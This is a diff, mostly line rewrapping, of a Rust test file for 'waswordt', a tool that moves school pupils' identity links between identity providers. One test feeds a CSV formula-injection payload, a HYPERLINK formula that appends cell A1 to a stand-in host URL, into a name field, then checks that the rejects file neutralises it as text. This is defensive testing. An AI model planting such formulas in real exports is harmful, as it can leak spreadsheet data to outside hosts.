@@ -13,16 +13,19 @@ const HEADER: &str = "Voornaam,Tussenvoegsel,Achternaam,Postcode,Huisnummer,Oude
 const MOVE: &str = "sector = \"vo\"\n[school]\nbrin = \"99ZZ00\"\nname = \"Testschool\"\n[from]\ndelivery = \"elf\"\nidp = \"magister\"\nrealm = \
                     \"oud\"\n[to]\ndelivery = \"elf\"\nidp = \"azure-ad\"\nrealm = \"nieuw\"\n";
 
-/// A folder with a move, a list of four rows and a store in which the new identities of two of them are taken already.
+/// A folder with a move, a list of four rows and a store in which the new identities of two of them
+/// are taken already.
 struct Desk(TempDir, &'static str);
 
 impl Desk {
     fn new(store: &'static str) -> Self {
         let desk = Self(tempfile::tempdir().unwrap(), store);
         desk.write("move.toml", MOVE);
-        let row = |nth: u32| format!("Naam{nth},,Achternaam{nth},1234 AB,{nth},{nth}@oud,{nth}@nieuw\n");
+        let row =
+            |nth: u32| format!("Naam{nth},,Achternaam{nth},1234 AB,{nth},{nth}@oud,{nth}@nieuw\n");
         desk.write("list.csv", &(HEADER.to_owned() + &(1..=4).map(row).collect::<String>()));
-        let keyrings = "profile_id,identity\nP1,1@oud\nP2,2@oud\nP3,3@oud\nP4,4@oud\nQ2,2@nieuw\nQ3,3@nieuw\n";
+        let keyrings =
+            "profile_id,identity\nP1,1@oud\nP2,2@oud\nP3,3@oud\nP4,4@oud\nQ2,2@nieuw\nQ3,3@nieuw\n";
         desk.write("keyrings.csv", keyrings);
         if store != "keyrings.csv" {
             desk.run(&["keyrings", "init", "--store", store], 0);
@@ -45,21 +48,35 @@ impl Desk {
 
     fn run(&self, words: &[&str], code: i32) -> String {
         let mut command = Command::cargo_bin("waswordt").unwrap();
-        let output = command.args(words).args(["--lang", "en", "--quiet"]).current_dir(self.path()).output().unwrap();
+        let output = command
+            .args(words)
+            .args(["--lang", "en", "--quiet"])
+            .current_dir(self.path())
+            .output()
+            .unwrap();
         let out = String::from_utf8(output.stdout).unwrap();
-        assert_eq!(output.status.code(), Some(code), "{words:?}\n{out}{}", String::from_utf8_lossy(&output.stderr));
+        assert_eq!(
+            output.status.code(),
+            Some(code),
+            "{words:?}\n{out}{}",
+            String::from_utf8_lossy(&output.stderr)
+        );
         out
     }
 
     fn apply(&self, options: &[&str], code: i32) -> Value {
-        let words = ["apply", "list.csv", "--move", "move.toml", "--store", self.1, "--format", "json"];
+        let words =
+            ["apply", "list.csv", "--move", "move.toml", "--store", self.1, "--format", "json"];
         serde_json::from_str(&self.run(&[&words, options].concat(), code)).unwrap()
     }
 
     /// Applies what can be applied, and returns the lines of the rejects.
     fn hold(&self) -> Vec<String> {
         let partial = self.apply(&["--hold", "--rejects", "held.csv"], 1);
-        assert_eq!((&partial["counts"]["linked"], &partial["counts"]["held"]), (&2.into(), &2.into()));
+        assert_eq!(
+            (&partial["counts"]["linked"], &partial["counts"]["held"]),
+            (&2.into(), &2.into())
+        );
         self.read("held.csv").lines().map(str::to_owned).collect()
     }
 
@@ -92,7 +109,10 @@ fn a_formula_in_a_name_is_text_in_the_rejects_and_known_again_in_the_decisions()
     let live = r#""=HYPERLINK(""https://x.example/""&A1,""klik"")""#;
     desk.write("list.csv", &desk.read("list.csv").replace("Naam2", live));
     let lines = desk.hold();
-    assert!(lines[1].starts_with(r#""=""=HYPERLINK(""""https://x.example/""""&A1,""""klik"""")""","#), "{lines:?}");
+    assert!(
+        lines[1].starts_with(r#""=""=HYPERLINK(""""https://x.example/""""&A1,""""klik"""")""","#),
+        "{lines:?}"
+    );
     desk.decide(&lines, ["take-over", "skip"]);
     let taken = desk.apply(&["--decisions", "decisions.csv"], 1);
     assert_eq!(taken["decisions"], json!({"link": 0, "skip": 1, "take_over": 1}));
@@ -113,7 +133,19 @@ fn every_decision_is_noted_in_the_journal_once_without_a_name_or_an_identity() {
         assert_eq!((runs.len(), &runs[before]["decisions"]), (before + 1, &none), "{store}");
         desk.apply(&["--decisions", "decisions.csv"], 1);
         assert_eq!(desk.runs().len(), before + 1, "{store}");
-        let shown = desk.run(&["apply", "list.csv", "--move", "move.toml", "--store", store, "--decisions", "decisions.csv"], 1);
+        let shown = desk.run(
+            &[
+                "apply",
+                "list.csv",
+                "--move",
+                "move.toml",
+                "--store",
+                store,
+                "--decisions",
+                "decisions.csv",
+            ],
+            1,
+        );
         assert!(shown.contains("Decided: 0 to be linked, 2 to stay held"), "{shown}");
         assert!(!shown.contains("Naam") && !shown.contains("@oud"), "{shown}");
     }
@@ -126,7 +158,10 @@ fn a_decision_about_a_row_that_nothing_holds_refuses_the_run() {
     let linked = "Naam1,,Achternaam1,1234 AB,1,1@oud,1@nieuw,,x,link,2";
     desk.write("decisions.csv", &format!("{}\n{linked}\n", lines[0]));
     let refused = desk.apply(&["--decisions", "decisions.csv"], 1);
-    assert_eq!((&refused["outcome"], &refused["refused_because"]), (&"refused".into(), &"not-held".into()));
+    assert_eq!(
+        (&refused["outcome"], &refused["refused_because"]),
+        (&"refused".into(), &"not-held".into())
+    );
 }
 
 #[test]
@@ -142,14 +177,34 @@ fn a_decision_holds_only_for_the_profile_that_it_was_made_about() {
         let before = desk.run(&["keyrings", "export", "--store", store], 0);
         assert!(before.contains("Q7,2@nieuw"), "{before}");
         let refused = desk.apply(&["--decisions", "decisions.csv"], 1);
-        assert_eq!((&refused["refused_because"], &refused["held"][0]["rows"]), (&"stale-decisions".into(), &json!([3])), "{store}");
-        let said = desk.run(&["apply", "list.csv", "--move", "move.toml", "--store", store, "--decisions", "decisions.csv"], 1);
+        assert_eq!(
+            (&refused["refused_because"], &refused["held"][0]["rows"]),
+            (&"stale-decisions".into(), &json!([3])),
+            "{store}"
+        );
+        let said = desk.run(
+            &[
+                "apply",
+                "list.csv",
+                "--move",
+                "move.toml",
+                "--store",
+                store,
+                "--decisions",
+                "decisions.csv",
+            ],
+            1,
+        );
         assert!(!said.contains("3@nieuw"), "{said}");
         assert_eq!(desk.run(&["keyrings", "export", "--store", store], 0), before);
         desk.apply(&["--hold", "--dry-run", "--rejects", "held.csv", "--force"], 1);
         let lines: Vec<String> = desk.read("held.csv").lines().map(str::to_owned).collect();
         desk.decide(&lines, ["take-over", ""]);
-        assert_eq!(desk.apply(&["--decisions", "decisions.csv"], 1)["orphaned"], json!([{"row": 3, "profile_id": "Q7"}]), "{store}");
+        assert_eq!(
+            desk.apply(&["--decisions", "decisions.csv"], 1)["orphaned"],
+            json!([{"row": 3, "profile_id": "Q7"}]),
+            "{store}"
+        );
     }
 }
 
@@ -170,7 +225,18 @@ fn a_mistake_in_the_decisions_is_told_with_its_row_and_changes_nothing() {
     assert!(told(["link", ""], |text| text.replace("Decision", "Opinion")).contains("no column"));
     assert_eq!(desk.run(&["keyrings", "export", "--store", "store.db"], 0), before);
     desk.run(
-        &["apply", "list.csv", "--move", "move.toml", "--store", "store.db", "--decisions", "decisions.csv", "--on-collision", "skip"],
+        &[
+            "apply",
+            "list.csv",
+            "--move",
+            "move.toml",
+            "--store",
+            "store.db",
+            "--decisions",
+            "decisions.csv",
+            "--on-collision",
+            "skip",
+        ],
         2,
     );
 }
@@ -185,11 +251,19 @@ fn only_rows_that_are_decided_of_run_and_the_same_file_again_changes_nothing() {
         };
         desk.decide(&lines, ["overnemen", ""]);
         let taken = desk.apply(&["--decisions", "decisions.csv"], 1);
-        assert_eq!((&taken["counts"]["linked"], &taken["counts"]["held"]), (&1.into(), &3.into()), "{store}");
+        assert_eq!(
+            (&taken["counts"]["linked"], &taken["counts"]["held"]),
+            (&1.into(), &3.into()),
+            "{store}"
+        );
         assert_eq!(taken["orphaned"], json!([{"row": 3, "profile_id": "Q2"}]), "{store}");
         let export = desk.run(&["keyrings", "export", "--store", store], 0);
         assert!(export.contains("P2,2@nieuw") && !export.contains("P1,1@nieuw"), "{export}");
-        assert_eq!(desk.apply(&["--decisions", "decisions.csv"], 1)["counts"]["already"], 1, "{store}");
+        assert_eq!(
+            desk.apply(&["--decisions", "decisions.csv"], 1)["counts"]["already"],
+            1,
+            "{store}"
+        );
         assert_eq!(desk.run(&["keyrings", "export", "--store", store], 0), export);
         // The rest can still be applied, and decided of later.
         assert_eq!(desk.apply(&["--hold"], 1)["counts"]["linked"], 2, "{store}");
